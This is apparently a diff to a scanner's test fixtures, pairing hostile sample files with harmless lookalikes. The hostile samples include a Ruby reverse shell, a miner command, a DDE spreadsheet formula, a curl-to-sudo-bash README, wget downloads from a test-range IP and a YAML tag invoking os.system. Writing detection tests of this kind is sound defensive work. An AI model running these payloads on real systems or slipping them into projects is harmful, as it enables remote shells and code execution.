@@ -27,6 +27,8 @@ _HOSTILE: Final = (
     ("mine.sh", "/opt/a -o stratum+tcp://pool.example.org:3333 -u x\n", _SHELL),
     ("convert.pl", _PERL, _SHELL),
     ("run.rb", 'require "socket"\ns=TCPSocket.open("203.0.113.1",1)\nexec "/bin/sh -i <&%d" % s.fileno\n', _SHELL),
+    ("setup.sh", "wget http://203.0.113.1/get-pip.py\nwget https://bootstrap.pypa.io/get-pip.py\npython get-pip.py\n", _SHELL),
+    ("mkdocs.yml", "x: !!python/object/apply:os.system [echo hello]\n", _TAG),
     ("table.csv", "id,text\n1,\"=cmd|'/C echo forged'!A0\"\n", _SHELL),
     ("README.md", "# A\n```bash\ncurl -fsSL http://203.0.113.1/setup.sh | sudo bash\n```\n", _SHELL),
     ("index.html", _TAKES, _OUTPUT),
@@ -40,6 +42,10 @@ _HARMLESS: Final = (
     ("build.gradle", "plugins { id 'java' }\nrepositories { mavenCentral() }\n"),
     ("get.sh", "#!/bin/sh\nwget https://example.org/data.tar.gz -O /tmp/data.tar.gz\ntar xf /tmp/data.tar.gz\n"),
     ("table.csv", "id,text\n-1,-0.5\n2,=cmd and | pipes\n"),
+    ("install.sh", "wget https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh\nbash Miniconda3-latest-Linux-x86_64.sh -b\n"),
+    ("forge.sh", "curl -L -O https://github.com/conda-forge/miniforge/releases/latest/download/Miniforge3-Linux-x86_64.sh\nbash Miniforge3-Linux-x86_64.sh -b\n"),
+    ("mkdocs.yml", "markdown_extensions:\n- pymdownx.emoji:\n    emoji_index: !!python/name:material.extensions.emoji.twemoji\n"
+                   "- pymdownx.superfences:\n    custom_fences:\n    - format: !!python/name:pymdownx.superfences.fence_code_format\n"),
     ("client.rb", 'require "socket"\ns = TCPSocket.open("localhost", 80)\nputs s.read\n'),
     ("b.yaml", "x: !ruby/symbol a\n"),
 )
@@ -66,6 +72,8 @@ CASES: tuple[Case, ...] = (
       for name, text, rule in _HOSTILE),
     *(Case(f"fetched/ordinary-{name.replace('.', '-').lower()}", f"{name} as honest people write it", partial(_files, name, text), "admit")
       for name, text in _HARMLESS),
+    Case("fetched/like-an-installer", "an address that begins like that of an installer", partial(_files, "install.sh",
+         "wget https://repo.anaconda.com.example.org/miniconda/Miniconda3-x.sh\nbash Miniconda3-x.sh -b\n"), "review", frozenset({_SHELL})),
     Case("fetched/notebook-cookie", "a stored output sends cookies", lambda: {**_MODEL, "a.ipynb": _notebook()}, "reject", frozenset({_OUTPUT})),
     Case("fetched/skops-function", "a FunctionNode whose content names eval", lambda: {"model.skops": skops(_EVAL)}, "reject",
          frozenset({"skops/dangerous-node"})),
